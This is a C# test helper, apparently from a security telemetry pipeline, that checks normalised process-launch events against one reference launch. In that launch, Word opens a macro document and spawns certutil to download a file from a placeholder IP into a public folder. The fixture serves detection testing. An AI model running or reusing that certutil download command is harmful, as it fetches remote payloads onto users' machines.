using Changeling.Events;
using Changeling.TestSupport;

namespace Changeling.Core.Tests.Events;

/// <summary>
/// What every reading of the golden launch must say: names, domains and paths without case, hosts by their first label, no drive.
/// </summary>
internal static class GoldenEvent
{
    private const string ParentPath = @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";

    /// <summary>Fluent Bit sends whole seconds; the pipeline needs no more.</summary>
    private static readonly TimeSpan WholeSecond = TimeSpan.FromMilliseconds(999);

    /// <summary>Fails unless all fields that the event has are the launch's, and those that every sender knows are there.</summary>
    public static void AssertSame(ProcessEvent read)
    {
        AssertAgrees(read, WholeSecond);
        Assert.NotNull(read.User?.Name);
        Assert.NotNull(read.Child.Path);
        Assert.NotNull(read.Child.CommandLine);
        Assert.NotNull(read.Child.Pid);
        if (read.Format != SourceFormats.CarbonBlack) Assert.NotNull(read.Child.Integrity);
        Assert.NotNull(read.Parent);
    }

    /// <summary>Fails if a field that the event has is not the launch's.</summary>
    public static void AssertAgrees(ProcessEvent read, TimeSpan tolerance)
    {
        Assert.Equal(new DateTime(2026, 11, 3, 9, 14, 27, 384), read.Time.UtcDateTime, tolerance);
        Assert.Equal("ws-0417", read.Host.Name.Split('.')[0]);
        Assert.Equal("certutil.exe", read.Child.Name);
        Agrees("mara.lind", read.User?.Name);
        Agrees("corp", read.User?.Domain?.ToLowerInvariant());
        Agrees(GoldenLaunch.Sid, read.User?.Sid);
        Agrees(@"c:\windows\system32\certutil.exe", OnDriveC(read.Child.Path));
        Agrees(@"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt", read.Child.CommandLine);
        Agrees(6284u, read.Child.Pid);
        Agrees("CertUtil.exe", read.Child.OriginalFileName);
        Agrees("1f2306a3b3a5e04d7bd914991986a5d8c23ef135", read.Child.Hashes?.Sha1);
        Agrees("c7544986f4347555684b52fef40de584", read.Child.Hashes?.Md5);
        Agrees(IntegrityLevel.Medium, read.Child.Integrity);
        Agrees(TokenElevation.Limited, read.Child.Elevation);
        Agrees("winword.exe", read.Parent?.Name);
        Agrees(ParentPath.ToLowerInvariant(), OnDriveC(read.Parent?.Path));
        Agrees(9120u, read.Parent?.Pid);
        Agrees($"""
            "{ParentPath}" /n "C:\Users\mara.lind\Downloads\offer.docm"
            """, read.Parent?.CommandLine);
    }

    private static void Agrees(object expected, object? actual) =>
        Assert.True(actual is null || expected.Equals(actual), $"{expected} != {actual}");

    private static string? OnDriveC(string? path) =>
        path?.ToLowerInvariant().Replace(@"\device\harddiskvolume3\", @"c:\", StringComparison.Ordinal);
}
